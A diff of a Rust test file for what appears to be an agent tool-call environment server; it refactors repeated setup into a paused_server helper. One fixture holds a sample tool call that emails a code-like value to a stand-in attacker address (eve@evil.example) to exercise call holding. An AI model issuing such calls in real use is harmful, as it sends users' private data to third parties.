@@ -159,15 +159,21 @@ async fn a_request_without_the_token_is_refused() {
     assert!(events.try_recv().is_err());
 }
 
-#[tokio::test(flavor = "multi_thread")]
-async fn a_paused_episode_holds_each_tool_call_until_a_step_lets_it_run() {
-    let (server, mut events) =
+/// A server of turn 1 whose calls are held at a paused step gate.
+async fn paused_server() -> (EnvironmentServer, tokio::sync::mpsc::UnboundedReceiver<EventBody>, StepGate) {
+    let (server, events) =
         EnvironmentServer::start(EnvironmentState::new(&env()), 10, "127.0.0.1:0".parse().unwrap())
             .await
             .unwrap();
     let gate = StepGate::new(true);
     server.hold_calls_at(gate.clone());
     server.begin_turn(1).await;
+    (server, events, gate)
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn a_paused_episode_holds_each_tool_call_until_a_step_lets_it_run() {
+    let (server, mut events, gate) = paused_server().await;
     let token = token_of(&server);
     let calls =
         json!([["send_email", {"recipient": "eve@evil.example", "body": "X1234567"}], ["read_calendar", {}]]);
@@ -206,13 +212,7 @@ async fn a_paused_episode_holds_each_tool_call_until_a_step_lets_it_run() {
 #[tokio::test(flavor = "multi_thread")]
 async fn a_held_call_whose_client_gave_up_is_journaled_cancelled_and_never_runs() {
     for mode in ["legacy", "2026-07-28"] {
-        let (server, mut events) =
-            EnvironmentServer::start(EnvironmentState::new(&env()), 10, "127.0.0.1:0".parse().unwrap())
-                .await
-                .unwrap();
-        let gate = StepGate::new(true);
-        server.hold_calls_at(gate.clone());
-        server.begin_turn(1).await;
+        let (server, mut events, gate) = paused_server().await;
         // The official client gives up after 1 s (its own read timeout) and exits.
         let script = r#"
 import asyncio, sys, httpx2
@@ -378,13 +378,7 @@ async fn a_fixed_endpoint_serves_one_episode_at_a_time_and_says_why_a_call_runs_
 /// released in any order): each step runs the oldest held call.
 #[tokio::test(flavor = "multi_thread")]
 async fn held_calls_are_released_first_come_first_served() {
-    let (server, mut events) =
-        EnvironmentServer::start(EnvironmentState::new(&env()), 10, "127.0.0.1:0".parse().unwrap())
-            .await
-            .unwrap();
-    let gate = StepGate::new(true);
-    server.hold_calls_at(gate.clone());
-    server.begin_turn(1).await;
+    let (server, mut events, gate) = paused_server().await;
     // Three calls at once in one session, spaced so they arrive in a known order.
     let script = r#"
 import asyncio, sys, httpx2
